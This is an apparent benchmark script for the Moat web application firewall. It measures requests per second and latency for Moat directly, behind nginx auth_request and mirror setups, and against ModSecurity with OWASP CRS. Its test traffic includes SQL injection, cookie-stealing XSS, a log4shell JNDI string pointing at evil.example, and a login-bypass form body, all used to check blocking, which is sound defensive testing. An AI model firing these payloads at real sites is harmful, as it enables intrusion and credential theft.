#!/usr/bin/env bun
/**
 * Inline checks, direct and through nginx, in one run on one machine: `wrk` at fixed concurrency
 * against
 *   1. `moat serve` POST /check (detect mode; the requests as JSON check bodies),
 *   2. nginx alone: assets/deploy/nginx/auth-request.conf without its `auth_request` line, proxying to
 *      a tiny upstream (a second nginx server answering 200),
 *   3. nginx + auth_request → Moat: the same file as documented, Moat in block mode,
 *   4. nginx alone again, as assets/deploy/nginx/mirror.conf without its `mirror` line (POST bodies too),
 *   5. nginx + mirror → Moat: mirror.conf as documented, Moat following its access log and joining,
 *   6. nginx + ModSecurity + OWASP CRS at paranoia level 1 (Debian packages, bench/lib/modsecurity.ts)
 *      proxying to the same kind of upstream.
 * Rows 4 and 5 send the mix plus two POSTs with form bodies (one an SQL injection): the mirror's copy
 * carries the body, and nginx must not wait for Moat.
 * Every row sends the same mix, rotated by a wrk Lua script: three benign requests and three
 * attacks (SQL injection and XSS in the query, log4shell in User-Agent). Attacks answered 403 count as
 * non-2xx in wrk's figures; the `attacks blocked` column comes from probing each attack once first.
 *
 *   bun run bench:check [--seconds S] [--connections C] [--threads T] [--rate R] [--pairs N] [--nice K]
 *
 * `--nice K` runs moat serve at niceness K (0 by default), as an operator may run an out-of-band Moat
 * below nginx (systemd's `Nice=`); it slows Moat's inline checks as much as it spares nginx.
 *
 * Then rows 4 and 5 again at a fixed rate (R requests/s, default 500: a load both carry), sent on a
 * schedule whatever the answers do (bench/lib/fixed-rate.ts): the latency the mirror adds to a request.
 * A p99 of a few milliseconds moves by half between two runs of the same server on a shared machine, so
 * the runs alternate N times (default 3) and the comparison is of their medians. A third server in the
 * same rotation takes the copies and does nothing else (bench/lib/mirror-floor.ts): what nginx's
 * `mirror` costs by itself, whatever the target.
 *
 * Prints machine, versions and a Markdown table (requests/s, p50, p99 as wrk measured them).
 * Exit codes: 69 wrk or ModSecurity/CRS missing and not installable, 70 a server did not come up or
 * answered wrongly.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { EXIT } from "../cli/exit-codes.ts";
import { describeMachine } from "./lib/machine.ts";
import { crsInfo, debVersion, ensureModSecurity, nginxVersion, startCrsNginx } from "./lib/modsecurity.ts";
import { BenchError, runBench } from "./lib/run.ts";
import { intOption, parseBenchArgs } from "./lib/args.ts";
import { waitForHealth } from "./lib/health.ts";
import { fixedRate, type FixedRateResult } from "./lib/fixed-rate.ts";
import { median } from "./lib/measure.ts";
import { markdownTable, thousands } from "./lib/table.ts";
import { NGINX_BIN, freePort, startAuthRequestNginx, startMirrorNginx } from "../test/helpers/nginx.ts";

const ROOT = resolve(import.meta.dir, "..");
const log = (msg: string) => process.stderr.write(`bench:check: ${msg}\n`);
/** Pause before each fixed-rate measurement. */
const SETTLE_MS = 3000;
const USAGE = "usage: bun run bench:check [--seconds S] [--connections C] [--threads T] [--rate R] [--pairs N] [--nice K]";

interface MixRequest {
  target: string;
  userAgent: string;
  attack: boolean;
}

const MIX: MixRequest[] = [
  { target: "/products?id=42&color=red", userAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", attack: false },
  { target: "/search?q=red+running+shoes&page=2", userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0 Safari/537.36", attack: false },
  { target: "/account/orders?page=3&sort=date", userAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) Safari/605.1.15", attack: false },
  { target: "/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", userAgent: "Mozilla/5.0", attack: true },
  { target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", userAgent: "Mozilla/5.0", attack: true },
  { target: "/products", userAgent: "${jndi:ldap://evil.example/a}", attack: true },
];

const HOST = "shop.test";

/** Form posts for the mirror rows: their bodies reach Moat only through the mirror. */
const POSTS = [
  { target: "/login", userAgent: MIX[0]!.userAgent, body: "user=alice&password=correct+horse+battery" },
  { target: "/login", userAgent: "Mozilla/5.0", body: "user=admin&password=x%27+OR+%271%27%3D%271%27+--" },
];

/** The mix as POST /check bodies (what a script calling Moat directly sends). */
function checkBody(r: MixRequest): string {
  return JSON.stringify({ method: "GET", path: r.target, headers: { host: HOST, "user-agent": r.userAgent } });
}

const lua = (s: string) => JSON.stringify(s); // a JSON string is a valid Lua string literal for this text

/** A wrk script that sends `requests` in turn; built in init so that wrk's own headers are set. */
function rotationScript(requests: { method: string; path: string; headers: Record<string, string>; body?: string }[]): string {
  const rows = requests.map((r) => {
    const headers = Object.entries(r.headers).map(([k, v]) => `[${lua(k)}] = ${lua(v)}`).join(", ");
    return `    wrk.format(${lua(r.method)}, ${lua(r.path)}, { ${headers} }${r.body ? `, ${lua(r.body)}` : ""})`;
  });
  return `local requests = {}\nlocal i = 0\ninit = function(args)\n  requests = {\n${rows.join(",\n")}\n  }\nend\nrequest = function()\n  i = (i % #requests) + 1\n  return requests[i]\nend\n`;
}

interface WrkResult {
  rps: number;
  p50: number;
  p99: number;
  requests: number;
  non2xx: number;
  socketErrors: number;
}

/** wrk --latency prints "50%  1.23ms" lines; returns milliseconds. */
function latency(output: string, percentile: string): number {
  const m = new RegExp(`^\\s+${percentile}%\\s+([\\d.]+)(us|ms|s)`, "m").exec(output);
  if (!m) return NaN;
  const v = Number(m[1]);
  return m[2] === "us" ? v / 1000 : m[2] === "s" ? v * 1000 : v;
}

function parseWrk(out: string): WrkResult {
  const socket = /Socket errors: connect (\d+), read (\d+), write (\d+), timeout (\d+)/.exec(out);
  return {
    rps: Number(/Requests\/sec:\s+([\d.]+)/.exec(out)?.[1] ?? NaN),
    p50: latency(out, "50"),
    p99: latency(out, "99"),
    requests: Number(/(\d+) requests in/.exec(out)?.[1] ?? NaN),
    non2xx: Number(/Non-2xx or 3xx responses: (\d+)/.exec(out)?.[1] ?? 0),
    socketErrors: socket ? socket.slice(1).map(Number).reduce((a, b) => a + b, 0) : 0,
  };
}

interface WrkOptions {
  wrk: string;
  dir: string;
  seconds: number;
  connections: number;
  threads: number;
}

function runWrk(o: WrkOptions, label: string, url: string, script: string): WrkResult {
  const file = join(o.dir, `${label.replace(/\W+/g, "-")}.lua`);
  writeFileSync(file, script);
  log(`${label}: wrk -t${o.threads} -c${o.connections} -d${o.seconds}s ${url}`);
  const run = Bun.spawnSync([o.wrk, `-t${o.threads}`, `-c${o.connections}`, `-d${o.seconds}s`, "--latency", "-s", file, url], { stdout: "pipe", stderr: "pipe" });
  const out = run.stdout.toString();
  if (!run.success || !/Requests\/sec/.test(out)) throw new BenchError(`wrk failed on ${label}:\n${out}${run.stderr.toString()}`, EXIT.software);
  const result = parseWrk(out);
  log(`${label}: ${thousands(result.rps)} requests/s, p99 ${result.p99.toFixed(2)} ms`);
  return result;
}

/** Sends each request of the mix once: a benign request must get 200; returns how many attacks got 403. */
async function probe(label: string, port: number): Promise<number> {
  let blocked = 0;
  for (const r of MIX) {
    const res = await fetch(`http://127.0.0.1:${port}${r.target}`, { headers: { host: HOST, "user-agent": r.userAgent } });
    await res.arrayBuffer();
    if (!r.attack && res.status !== 200) throw new BenchError(`${label}: the benign ${r.target} answered ${res.status}, not 200`, EXIT.software);
    if (r.attack && res.status === 403) blocked++;
    else if (r.attack && res.status !== 200) throw new BenchError(`${label}: the attack ${r.target} answered ${res.status}, not 200 or 403`, EXIT.software);
  }
  return blocked;
}

async function moatJson<T>(base: string, path: string, init?: RequestInit): Promise<T> {
  const res = await fetch(`${base}${path}`, init);
  if (!res.ok) throw new BenchError(`${path} answered ${res.status}: ${await res.text()}`, EXIT.software);
  return ((await res.json()) as { data: T }).data;
}

const mirrorReceived = async (base: string) => ((await (await fetch(`${base}/health`)).json()) as { mirror?: { received: number } }).mirror?.received ?? 0;

const checksServed = (base: string) => moatJson<{ checks_served: number }>(base, "/api/waf/stats").then((s) => s.checks_served);

interface Row {
  label: string;
  result: WrkResult;
  attacksBlocked: string;
}

async function main(argv: string[]): Promise<number> {
  const { values } = parseBenchArgs({ args: argv, options: { seconds: { type: "string" }, connections: { type: "string" }, threads: { type: "string" }, rate: { type: "string" }, pairs: { type: "string" }, nice: { type: "string" } } }, USAGE);
  const seconds = intOption("--seconds", values.seconds, 10, USAGE);
  const connections = intOption("--connections", values.connections, 16, USAGE);
  const threads = intOption("--threads", values.threads, 1, USAGE);
  const rate = intOption("--rate", values.rate, 500, USAGE);
  const pairs = intOption("--pairs", values.pairs, 3, USAGE);
  const nice = intOption("--nice", values.nice, 0, USAGE, 19);
  const wrk = Bun.which("wrk");
  if (!wrk) throw new BenchError("wrk is not installed (Debian package wrk; .ci/dev-setup installs it)", EXIT.unavailable);
  if (!NGINX_BIN) throw new BenchError("nginx is not installed (Debian package nginx; .ci/dev-setup installs it)", EXIT.unavailable);
  ensureModSecurity(log);
  const crs = crsInfo();
  const dir = mkdtempSync(join(tmpdir(), "moat-bench-check-"));
  const o: WrkOptions = { wrk, dir, seconds, connections, threads };
  const attacks = MIX.filter((r) => r.attack).length;
  const port = await freePort();
  const mirrorPort = await freePort();
  const base = `http://127.0.0.1:${port}`;
  const serve = Bun.spawn([...(nice ? ["nice", "-n", String(nice)] : []), process.execPath, join(ROOT, "cli/index.ts"), "serve", "--port", String(port), "-c", "/dev/null", "--log-level", "warn"], {
    env: { ...process.env, MOAT_STORAGE_DATA_DIR: dir, MOAT_SECURITY_NGINX_CONF: "", MOAT_DETECT_MODE: "detect", MOAT_MIRROR_PORT: String(mirrorPort) },
    stdout: "ignore",
    stderr: "inherit",
  });
  const stops: (() => Promise<void>)[] = [];
  const rows: Row[] = [];
  let judgedThroughNginx = { judged: 0, sent: 0 };
  let mirroredCopies = { received: 0, sent: 0 };
  const fixedRows: { label: string; target: "alone" | "floor" | "moat"; result: FixedRateResult }[] = [];
  try {
    await waitForHealth("moat serve", base, serve);

    // 1. Direct, detect mode: every answer is 200 and carries the verdict.
    const flagged = await Promise.all(
      MIX.map(async (r) => ((await (await fetch(`${base}/check`, { method: "POST", headers: { "content-type": "application/json" }, body: checkBody(r) })).json()) as { is_anomaly: boolean }).is_anomaly),
    );
    if (flagged.some((f, i) => f !== MIX[i]!.attack)) throw new BenchError(`POST /check did not flag exactly the attacks of the mix: ${JSON.stringify(flagged)}`, EXIT.software);
    const checkScript = rotationScript(MIX.map((r) => ({ method: "POST", path: "/check", headers: { "Content-Type": "application/json" }, body: checkBody(r) })));
    rows.push({ label: "moat serve `POST /check` (detect mode, JSON bodies)", result: runWrk(o, "check", `${base}/check`, checkScript), attacksBlocked: "— (answers the verdict)" });

    const getRequests = MIX.map((r) => ({ method: "GET", path: r.target, headers: { Host: HOST, "User-Agent": r.userAgent } }));
    const getScript = rotationScript(getRequests);

    // 2. nginx alone: the documented server without its auth_request line.
    const alone = await startAuthRequestNginx({ moatPort: port, judge: false });
    stops.push(() => alone.stop());
    const aloneBlocked = await probe("nginx alone", alone.port);
    rows.push({ label: "nginx alone → upstream", result: runWrk(o, "nginx alone", `http://127.0.0.1:${alone.port}/`, getScript), attacksBlocked: `${aloneBlocked} of ${attacks}` });
    await alone.stop();
    stops.pop();

    // 3. nginx + auth_request → Moat in block mode.
    await moatJson(base, "/api/waf/config", { method: "PUT", headers: { "content-type": "application/json" }, body: JSON.stringify({ mode: "block" }) });
    const judged = await startAuthRequestNginx({ moatPort: port });
    stops.push(() => judged.stop());
    const authBlocked = await probe("nginx + auth_request", judged.port);
    const servedBefore = await checksServed(base);
    const authResult = runWrk(o, "nginx + auth_request", `http://127.0.0.1:${judged.port}/`, getScript);
    judgedThroughNginx = { judged: (await checksServed(base)) - servedBefore, sent: authResult.requests };
    rows.push({ label: "nginx + `auth_request` → moat (block mode) → upstream", result: authResult, attacksBlocked: `${authBlocked} of ${attacks}` });
    await judged.stop();
    stops.pop();

    // 4 and 5. The mirror: nginx alone (the same server without the copy), then copying to Moat.
    const withBodies = [...getRequests, ...POSTS.map((p) => ({ method: "POST", path: p.target, headers: { Host: HOST, "User-Agent": p.userAgent, "Content-Type": "application/x-www-form-urlencoded" }, body: p.body }))];
    const mirrorScript = rotationScript(withBodies);
    const mirrorAlone = await startMirrorNginx(mirrorPort, { mirror: false });
    stops.push(() => mirrorAlone.stop());
    rows.push({ label: "nginx alone → upstream (mirror.conf without `mirror`; with POST bodies)", result: runWrk(o, "nginx alone mirror", `http://127.0.0.1:${mirrorAlone.port}/`, mirrorScript), attacksBlocked: "—" });
    await mirrorAlone.stop();
    stops.pop();
    const mirrored = await startMirrorNginx(mirrorPort);
    stops.push(() => mirrored.stop());
    const receivedBefore = await mirrorReceived(base);
    const mirrorResult = runWrk(o, "nginx + mirror", `http://127.0.0.1:${mirrored.port}/`, mirrorScript);
    await Bun.sleep(500); // the last copies arrive after their answers
    mirroredCopies = { received: (await mirrorReceived(base)) - receivedBefore, sent: mirrorResult.requests };
    rows.push({ label: "nginx + `mirror` → moat (copies judged out of band) → upstream", result: mirrorResult, attacksBlocked: "— (out of band)" });
    await mirrored.stop();
    stops.pop();

    // The same two at a fixed rate that nginx and Moat both carry: what the mirror adds to each request.
    const floorPort = await freePort();
    const floor = Bun.spawn([process.execPath, join(ROOT, "bench/lib/mirror-floor.ts"), String(floorPort)], { stdout: "ignore", stderr: "inherit" });
    stops.push(async () => {
      floor.kill("SIGTERM");
      await floor.exited;
    });
    const targets = [
      { target: "alone", label: "nginx alone (mirror.conf without `mirror`)", port: mirrorPort, mirror: false },
      { target: "floor", label: "nginx + `mirror` → a server that only answers 204", port: floorPort, mirror: true },
      { target: "moat", label: "nginx + `mirror` → moat", port: mirrorPort, mirror: true },
    ] as const;
    for (let run = 1; run <= pairs; run++) {
      // Each run starts with another server, and each measurement after a pause: Moat may still be judging
      // the copies of the run before, and whichever server came next would pay for it.
      const order = targets.map((_, i) => targets[(i + run - 1) % targets.length]!);
      for (const t of order) {
        await Bun.sleep(SETTLE_MS);
        const server = await startMirrorNginx(t.port, { mirror: t.mirror });
        stops.push(() => server.stop());
        log(`${t.label}, run ${run} of ${pairs}: ${rate} requests/s for ${seconds} s`);
        fixedRows.push({ label: `${t.label}, run ${run}`, target: t.target, result: await fixedRate(`http://127.0.0.1:${server.port}`, withBodies, rate, seconds) });
        await server.stop();
        stops.pop();
      }
    }

    // 6. nginx + ModSecurity + CRS PL1.
    const modsec = await startCrsNginx(1, crs);
    stops.push(() => modsec.stop());
    const crsBlocked = await probe("nginx + CRS PL1", modsec.port);
    rows.push({ label: "nginx + ModSecurity + CRS PL1 → upstream", result: runWrk(o, "nginx + CRS PL1", `http://127.0.0.1:${modsec.port}/`, getScript), attacksBlocked: `${crsBlocked} of ${attacks}` });
  } finally {
    for (const stop of stops) await stop();
    serve.kill("SIGTERM");
    await serve.exited;
    rmSync(dir, { recursive: true, force: true });
  }

  console.log(describeMachine().join("\n"));
  console.log(`- nginx ${nginxVersion()} (1 worker), libmodsecurity3 ${debVersion("libmodsecurity3")}, OWASP CRS ${crs.version}`);
  console.log(`- wrk ${o.threads} thread(s), ${o.connections} connections, ${o.seconds} s per row; the requests rotate through ${MIX.length - attacks} benign requests and ${attacks} attacks; Moat with its generic model only${nice ? `, at niceness ${nice}` : ""}`);
  // Fewer judged than completed would mean the snippet's fail-open let requests through unjudged.
  console.log(`- nginx + auth_request row: wrk completed ${thousands(judgedThroughNginx.sent)} requests; Moat judged ${thousands(judgedThroughNginx.judged)} subrequests meanwhile`);
  console.log(`- nginx + mirror row: wrk completed ${thousands(mirroredCopies.sent)} requests; Moat received ${thousands(mirroredCopies.received)} copies (the rest were given up by nginx's timeouts or dropped from a full queue)\n`);
  console.log(
    markdownTable(
      ["path", "requests/s", "p50", "p99", "non-2xx", "socket errors", "attacks blocked"],
      rows.map((r) => [r.label, thousands(r.result.rps), `${r.result.p50.toFixed(2)} ms`, `${r.result.p99.toFixed(2)} ms`, thousands(r.result.non2xx), thousands(r.result.socketErrors), r.attacksBlocked]),
    ),
  );
  console.log(`\nAt a fixed rate of ${thousands(rate)} requests/s for ${seconds} s a run, the servers in turn, each run starting with the next one and each measurement after a ${SETTLE_MS / 1000} s pause (the same mix with POST bodies; latency from each request's scheduled time):\n`);
  const ms = (x: number) => `${x.toFixed(2)} ms`;
  console.log(markdownTable(["path", "sent", "errors", "p50", "p99"], fixedRows.map((r) => [r.label, thousands(r.result.sent), thousands(r.result.errors), ms(r.result.p50), ms(r.result.p99)])));
  const medianP99 = (target: string) => median(fixedRows.filter((r) => r.target === target).map((r) => r.result.p99));
  const [alone, floorP99, moatP99] = [medianP99("alone"), medianP99("floor"), medianP99("moat")];
  const against = (x: number) => `${x >= alone ? "+" : ""}${((x / alone - 1) * 100).toFixed(0)}%`;
  console.log(`\nMedian p99 of the ${pairs} runs: nginx alone ${ms(alone)}; nginx + mirror → a server that only answers 204 ${ms(floorP99)} (${against(floorP99)}); nginx + mirror → Moat ${ms(moatP99)} (${against(moatP99)}; goal: within 10%)`);
  return EXIT.ok;
}

if (import.meta.main) await runBench(main, log);
